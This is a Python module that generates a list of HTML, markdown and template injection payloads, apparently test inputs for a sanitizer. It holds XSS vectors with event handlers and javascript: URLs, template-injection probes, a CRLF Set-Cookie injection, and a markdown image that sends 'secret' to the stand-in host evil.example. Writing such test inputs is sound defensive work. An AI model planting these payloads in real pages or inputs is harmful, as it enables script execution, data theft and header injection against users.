"""Texts that try to become something else than text."""

SCRIPTS = [
    "<script>{run}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<img src=//evil.example/p.png onload="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<a href='javascript:{run}'>x</a>",
    "<a href=//evil.example/ ping=//evil.example/p>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>cover</div>",
    "<dialog open>x</dialog>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<title></title><img src=x onerror={run}>",
    "<plaintext>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    "<custom-element onclick={run} tabindex=1>x</custom-element>",
    "<button popovertarget=help onclick={run}>x</button>",
    "<portal src=//evil.example/>",
    "&lt;img src=x onerror={run}&gt;",
    "&#x3c;img src=x onerror={run}&#x3e;",
    "\\u003cimg src=x onerror={run}\\u003e",
    "%3Cimg src=x onerror={run}%3E",
    "\uff1cimg src=x onerror={run}\uff1e",
    "{{{{7*7}}}}{{{{config}}}}{{{{''.__class__.__mro__}}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
    "${{7*7}}<%= 7*7 %>#{{7*7}}",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "![x](//evil.example/x.png) [x](javascript:{run})",
    "![x](http://evil.example/collect?d=secret)",
    "http://evil.example/ is a bare link",
    "constructor.constructor('{run}')()",
]
BREAKOUTS = ["", '">', "'>", "</div></section>", "</textarea></title></style></script>", '" onmouseover={run} x="',
             "-->", "</bdi></a>"]  # fmt: skip
SHAPES = [
    "\u202e{text}\u202c",
    "\u2066{text}",
    "\u200f{text}\u200e",
    "<\u200bscript>{run}</script>",
    "\x1b[31m{text}\x1b[0m\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[H{text}",
    "\x00{text}",
    "{text}\x00",
    "a\r\nSet-Cookie: x=1\r\n\r\n{text}",
    "\u2028{text}\u2029",
    "\ufeff{text}",
    "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309{text}",
    "\U000e003c\U000e0073\U000e0063{text}",
    "\ud800{text}",
    "\u0000\u0001\u0002{text}",
]
_RUN = "window.__ran=1"


def payloads() -> list[str]:
    """Every script behind every way out of where it stands, then every disguise of it."""
    plain = [_fill(way) + _fill(text) for way in BREAKOUTS for text in SCRIPTS]
    shaped = [
        shape.replace("{text}", _fill(text)).replace("{run}", _RUN)
        for shape in SHAPES
        for text in SCRIPTS[:6]
    ]
    return [*plain, *shaped]


def _fill(text: str) -> str:
    return text.replace("{run}", _RUN).replace("{{", "{").replace("}}", "}")
